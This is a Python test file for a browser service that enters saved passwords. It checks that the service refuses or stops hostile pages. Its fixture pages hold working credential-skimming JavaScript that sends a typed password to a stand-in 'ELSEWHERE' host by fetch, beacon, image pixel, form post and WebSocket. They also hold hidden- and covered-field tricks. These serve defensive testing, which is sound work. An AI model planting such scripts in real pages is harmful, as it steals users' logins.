"""A private value goes only where the person chose it (G13), in the
browser: a saved login is entered on a site on 127.0.0.2 whose page tries
to put the password where it must not go (a search box, a field labelled
otherwise, a field no one can see, a form or a script sending it to
127.0.0.3). Each is refused before the claim, or, once typed, stopped in the
browser: the other site counts what reached it (lengths only) and must
count nothing; the claim ends UNCERTAIN saying what the page tried."""

import hashlib
from dataclasses import dataclass, field

import grpc
import pytest
from aiohttp import web

from nod.browser.v1 import browser_pb2 as pb
from nod.browser.v1 import browser_pb2_grpc
from nod.claims.v1 import claims_pb2
from nodkit.client import open_channel
from nodtest.browser import browser_open, browser_read, claims_of_task, enter_request
from nodtest.browser import put_shop_login as put_login
from nodtest.claims import CANARY_PASSWORD
from nodtest.metrics import scrape

from .conftest import browser_settings, start_browser
from .hosts import SITE_HOST, elsewhere_site, serve_on
from .test_sessions import refused

USERNAME = "ada"
SUBMITTED = claims_pb2.CLAIM_STATE_SUBMITTED
UNCERTAIN = claims_pb2.CLAIM_STATE_UNCERTAIN


def sign_in(password_field: str = '<input id="password" name="password" type="password">') -> str:
    return (
        '<form id="login" method="post" action="/login">'
        '<label for="username">Username</label><input id="username" name="username">'
        f'<label for="password">Password</label>{password_field}'
        '<button type="submit">Sign in</button></form>'
    )


def styled(style: str) -> str:
    return sign_in(f'<input id="password" name="password" type="password" style="{style}">')


def script(body: str) -> str:
    """The sign-in form and a script of the page's own; ELSEWHERE, ELSEWHERE_WS:
    the other site's addresses."""
    return sign_in() + (
        "<script>const form = document.getElementById('login');"
        "const password = document.getElementById('password');"
        f"const username = document.getElementById('username');{body}</script>"
    )


PAGES = {
    "login": sign_in(),
    "search": (
        '<form method="get" action="/search"><input id="q" name="q" placeholder="Search">'
        '<button type="submit">Search</button></form>'
    ),
    "text field labelled Password": sign_in('<input id="password" name="password">'),
    "password field labelled Username": (
        '<form method="post" action="/login">'
        '<label for="login">Username</label><input id="login" name="login" type="password">'
        '<label for="password">Password</label><input id="password" type="password">'
        '<button type="submit">Sign in</button></form>'
    ),
    "off-screen": styled("position:absolute;left:-9999px"),
    "hidden": styled("visibility:hidden"),
    "not shown": styled("display:none"),
    "transparent": styled("opacity:0"),
    "zero-size": styled("width:0;height:0;padding:0;border:0"),
    "covered": sign_in(
        '<span style="position:relative;display:inline-block">'
        '<input id="password" name="password" type="password">'
        '<span style="position:absolute;inset:0;background:#fff"></span></span>'
    ),
    "form to elsewhere": sign_in().replace('action="/login"', 'action="ELSEWHERE/collect"'),
    "formaction to elsewhere": sign_in().replace(
        '<button type="submit">', '<button type="submit" formaction="ELSEWHERE/collect">'
    ),
    # Scripts that send the typed password elsewhere.
    "fetch": script(
        "password.addEventListener('input', () => fetch('ELSEWHERE/collect', {method: 'POST',"
        " mode: 'no-cors', body: JSON.stringify({p: password.value})}).catch(() => {}));"
    ),
    "beacon": script(
        "form.addEventListener('submit', () => navigator.sendBeacon('ELSEWHERE/beacon',"
        " new URLSearchParams({p: password.value})));"
    ),
    "image": script(
        "password.addEventListener('input', () => { new Image().src ="
        " 'ELSEWHERE/pixel.gif?p=' + encodeURIComponent(password.value); });"
    ),
    "form post": script(
        "form.addEventListener('submit', (event) => { event.preventDefault();"
        " const other = document.createElement('form'); other.method = 'post';"
        " other.action = 'ELSEWHERE/steal'; const p = document.createElement('input');"
        " p.name = 'p'; p.value = password.value; other.append(p);"
        " document.body.append(other); other.submit(); });"
    ),
    "websocket": script(
        "const socket = new WebSocket('ELSEWHERE_WS/socket');"
        "password.addEventListener('input', () =>"
        " socket.send(JSON.stringify({p: password.value})));"
    ),
    "websocket address": script(
        "password.addEventListener('input', () =>"
        " new WebSocket('ELSEWHERE_WS/socket?p=' + encodeURIComponent(password.value)));"
    ),
    # Pages that change after the claim.
    "hides the username": script(
        "password.addEventListener('input', () => { username.style.opacity = '0'; });"
    ),
    "moves the form": script(
        "password.addEventListener('input', () => { form.action = 'ELSEWHERE/collect'; });"
    ),
    # A form busy for a moment while the site checks what was typed.
    "busy a moment": script(
        "password.addEventListener('input', () => { username.disabled = true;"
        " setTimeout(() => { username.disabled = false; }, 300); });"
    ),
    # The site's own sign-in, whose answer is a 307 to the other site: the
    # browser would post the same body there.
    "redirected": sign_in().replace('action="/login"', 'action="/login-then-elsewhere"'),
    # The site's own script sending it to the site: trusted as the site is.
    "own fetch": script(
        "password.addEventListener('input', () => fetch('/collect', {method: 'POST',"
        " body: password.value}));"
    ),
}


@dataclass
class Site:
    url: str = ""
    elsewhere: str = ""
    logins: list[str] = field(default_factory=list)  # sha256 of each password received
    searches: int = 0
    collected: list[int] = field(default_factory=list)  # lengths

    async def page(self, request: web.Request) -> web.Response:
        body = PAGES[request.query["name"]]
        body = body.replace("ELSEWHERE_WS", self.elsewhere.replace("http:", "ws:"))
        body = body.replace("ELSEWHERE", self.elsewhere)
        return web.Response(
            text=f"<!doctype html><title>Shop</title>{body}", content_type="text/html"
        )

    async def login(self, request: web.Request) -> web.Response:
        password = str((await request.post()).get("password", ""))
        self.logins.append(hashlib.sha256(password.encode()).hexdigest())
        return web.Response(text="<!doctype html><h1>Signed in</h1>", content_type="text/html")

    async def login_then_elsewhere(self, request: web.Request) -> web.Response:
        await self.login(request)
        raise web.HTTPTemporaryRedirect(f"{self.elsewhere}/login")

    async def search(self, request: web.Request) -> web.Response:
        self.searches += 1
        return web.Response(text="<!doctype html><h1>Results</h1>", content_type="text/html")

    async def collect(self, request: web.Request) -> web.Response:
        self.collected.append(len(await request.read()))
        return web.Response(status=204)

    def routes(self) -> list[web.RouteDef]:
        return [
            web.get("/page", self.page),
            web.post("/login", self.login),
            web.post("/login-then-elsewhere", self.login_then_elsewhere),
            web.get("/search", self.search),
            web.post("/collect", self.collect),
        ]


@pytest.fixture
async def sites():
    site = Site()
    async with (
        elsewhere_site(CANARY_PASSWORD) as elsewhere,
        serve_on(SITE_HOST, site.routes()) as site.url,
    ):
        site.elsewhere = elsewhere.url
        yield site, elsewhere


async def open_page(stub, vault_stub, meta, site: Site, name: str):
    item = await put_login(vault_stub, meta, site, USERNAME, CANARY_PASSWORD)
    session_id, page = await browser_open(stub, meta, f"{site.url}/page?name={name}")
    return item, session_id, page


def login_request(session_id, item_id, fields=None, submit="button[type=submit]"):
    fields = fields or {"username": "#username", "password": "#password"}
    return enter_request(session_id, item_id, claims_pb2.ENTRY_KIND_SAVED_LOGIN, fields, submit)


async def nothing_typed(stub, meta, session_id) -> None:
    page = await browser_read(stub, meta, session_id)
    assert not [f.name for f in page.fields if f.filled]


async def test_the_plain_sign_in_goes_through(browser_stub, vault_stub, as_person, sites):
    site, elsewhere = sites
    item, session_id, _ = await open_page(browser_stub, vault_stub, as_person, site, "login")

    reply = await browser_stub.EnterPrivate(login_request(session_id, item.id), metadata=as_person)

    assert reply.entered and reply.claim.state == SUBMITTED
    assert site.logins == [hashlib.sha256(CANARY_PASSWORD.encode()).hexdigest()]
    assert elsewhere.received == 0


@pytest.mark.parametrize(
    ("name", "fields", "rule"),
    [
        ("search", {"password": "#q"}, "WRONG_FIELD_KIND"),
        ("text field labelled Password", None, "WRONG_FIELD_KIND"),
        ("password field labelled Username", {"password": "#login"}, "FIELD_LABELLED_OTHERWISE"),
        ("off-screen", None, "FIELD_OFF_SCREEN"),
        ("hidden", None, "FIELD_INVISIBLE"),
        ("not shown", None, "FIELD_NOT_SHOWN"),
        ("transparent", None, "FIELD_TRANSPARENT"),
        ("zero-size", None, "FIELD_ZERO_SIZE"),
        ("covered", None, "FIELD_COVERED"),
    ],
)
async def test_a_field_the_password_must_not_go_into_is_refused_before_the_claim(
    browser_stub, claims_stub, vault_stub, as_person, sites, name, fields, rule
):
    site, elsewhere = sites
    item, session_id, _ = await open_page(browser_stub, vault_stub, as_person, site, name)

    error = await refused(
        browser_stub.EnterPrivate(login_request(session_id, item.id, fields), metadata=as_person)
    )

    assert (error.code, error.reason, error.field) == (
        grpc.StatusCode.FAILED_PRECONDITION,
        rule,
        "fields.password",
    )
    assert "_" not in error.message.removeprefix("fields.password")  # words, not rule names
    assert await claims_of_task(claims_stub, as_person) == []  # nothing claimed
    await nothing_typed(browser_stub, as_person, session_id)
    assert (site.logins, site.searches, elsewhere.received) == ([], 0, 0)


@pytest.mark.parametrize("name", ["form to elsewhere", "formaction to elsewhere"])
async def test_a_form_sending_to_another_site_is_refused_before_the_claim(
    browser_stub, claims_stub, vault_stub, as_person, sites, name
):
    site, elsewhere = sites
    item, session_id, _ = await open_page(browser_stub, vault_stub, as_person, site, name)

    error = await refused(
        browser_stub.EnterPrivate(login_request(session_id, item.id), metadata=as_person)
    )

    assert (error.code, error.reason, error.field) == (
        grpc.StatusCode.FAILED_PRECONDITION,
        "SUBMITS_ELSEWHERE",
        "submit",
    )
    assert elsewhere.url in error.message
    assert await claims_of_task(claims_stub, as_person) == []
    await nothing_typed(browser_stub, as_person, session_id)
    assert (site.logins, elsewhere.received) == ([], 0)


@pytest.mark.parametrize(
    "name", ["fetch", "beacon", "image", "form post", "websocket", "websocket address"]
)
async def test_a_script_sending_the_typed_password_elsewhere_is_stopped(
    browser_stub, claims_stub, vault_stub, as_person, sites, name
):
    site, elsewhere = sites
    item, session_id, _ = await open_page(browser_stub, vault_stub, as_person, site, name)

    reply = await browser_stub.EnterPrivate(login_request(session_id, item.id), metadata=as_person)

    assert reply.entered and reply.claim.state == UNCERTAIN
    assert reply.claim.reason == (
        f"the page tried to send the values to {elsewhere.url}; nothing reached it,"
        " but the page held them (what was typed is cleared)"
    )
    (claim,) = await claims_of_task(claims_stub, as_person)
    assert (claim.id, claim.state) == (reply.claim.id, UNCERTAIN)
    # What reached it came after the fields were cleared (the page's
    # handlers hear the clearing too): none of it carried the password.
    assert elsewhere.carried == 0 and all(n < len(CANARY_PASSWORD) for n in elsewhere.lengths)


async def test_the_password_stays_guarded_for_the_sessions_life(
    browser_stub, vault_stub, as_person, sites
):
    """Long after its entry, a page (or the caller) sending the password to
    another site is still stopped, in any form."""
    site, elsewhere = sites
    item, session_id, _ = await open_page(browser_stub, vault_stub, as_person, site, "login")
    reply = await browser_stub.EnterPrivate(login_request(session_id, item.id), metadata=as_person)
    assert reply.claim.state == SUBMITTED

    fine = await browser_stub.Navigate(
        pb.NavigateRequest(session_id=session_id, url=f"{elsewhere.url}/later?p=other"),
        metadata=as_person,
    )
    leak = f"{elsewhere.url}/later?p={CANARY_PASSWORD.replace('!', '%21')}"
    error = await refused(
        browser_stub.Navigate(
            pb.NavigateRequest(session_id=session_id, url=leak), metadata=as_person
        )
    )

    assert (error.code, error.reason) == (grpc.StatusCode.FAILED_PRECONDITION, "NAVIGATION_FAILED")
    assert CANARY_PASSWORD not in error.message
    assert fine.page.url.startswith(elsewhere.url)
    assert elsewhere.requests and not elsewhere.carried  # only the one without it


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        (
            "hides the username",
            "fields.username: the field is transparent, so no one could see what goes into it;"
            " it changed after the claim: nothing more was typed, what was typed is cleared",
        ),
        (
            "moves the form",
            "submit: the form now sends what is typed to {elsewhere}, not to the site the values"
            " are entered for; submit was not pressed, what was typed is cleared",
        ),
    ],
)
async def test_a_page_that_changes_after_the_claim_ends_it_uncertain_and_cleared(
    browser_stub, vault_stub, as_person, sites, name, reason
):
    site, elsewhere = sites
    item, session_id, _ = await open_page(browser_stub, vault_stub, as_person, site, name)

    reply = await browser_stub.EnterPrivate(login_request(session_id, item.id), metadata=as_person)

    assert reply.entered and reply.claim.state == UNCERTAIN
    assert reply.claim.reason == reason.format(elsewhere=elsewhere.url)
    await nothing_typed(browser_stub, as_person, session_id)  # the password was cleared
    assert (site.logins, elsewhere.received) == ([], 0)


async def test_a_field_busy_for_a_moment_is_waited_for(browser_stub, vault_stub, as_person, sites):
    site, _ = sites
    item, session_id, _ = await open_page(
        browser_stub, vault_stub, as_person, site, "busy a moment"
    )

    reply = await browser_stub.EnterPrivate(login_request(session_id, item.id), metadata=as_person)

    assert reply.claim.state == SUBMITTED, reply.claim.reason
    assert site.logins == [hashlib.sha256(CANARY_PASSWORD.encode()).hexdigest()]


async def test_a_sign_in_redirected_to_another_site_with_its_body_is_not_followed(
    browser_stub, vault_stub, as_person, sites
):
    """The site had the values (SUBMITTED); its 307 would have the browser
    post them on to the other site, which gets nothing."""
    site, elsewhere = sites
    item, session_id, _ = await open_page(browser_stub, vault_stub, as_person, site, "redirected")

    reply = await browser_stub.EnterPrivate(login_request(session_id, item.id), metadata=as_person)

    assert reply.claim.state == SUBMITTED
    assert site.logins == [hashlib.sha256(CANARY_PASSWORD.encode()).hexdigest()]
    assert elsewhere.received == 0


async def test_the_sites_own_script_may_send_it_to_the_site(
    browser_stub, vault_stub, as_person, sites
):
    site, elsewhere = sites
    item, session_id, _ = await open_page(browser_stub, vault_stub, as_person, site, "own fetch")

    reply = await browser_stub.EnterPrivate(login_request(session_id, item.id), metadata=as_person)

    assert reply.claim.state == SUBMITTED
    assert site.collected == [len(CANARY_PASSWORD)] and len(site.logins) == 1
    assert elsewhere.received == 0


async def test_refusals_and_stops_are_counted_by_rule_in_metrics(
    claims_server, service_token, browser_chromium, vault_stub, as_person, sites
):
    site, _ = sites
    settings = browser_settings(claims_server, service_token, metrics_listen="127.0.0.1:0")
    running = await start_browser(settings, browser_chromium)
    channel = open_channel(running.address)
    try:
        stub = browser_pb2_grpc.BrowserServiceStub(channel)
        address = f"127.0.0.1:{running.metrics_port}"
        before = await scrape(address)
        for name in ("covered", "covered", "fetch"):
            item, session_id, _ = await open_page(stub, vault_stub, as_person, site, name)
            try:
                await stub.EnterPrivate(login_request(session_id, item.id), metadata=as_person)
            except grpc.aio.AioRpcError:
                pass  # refused: counted
        after = await scrape(address)
    finally:
        await channel.close()
        await running.stop(0)

    def counted(rule: str) -> float:
        name = "nod_browser_entry_refusals_total"
        return after.value(name, rule=rule) - before.value(name, rule=rule)

    assert counted("field_covered") == 2
    assert counted("values_sent_elsewhere") >= 1
    assert counted("field_transparent") == 0
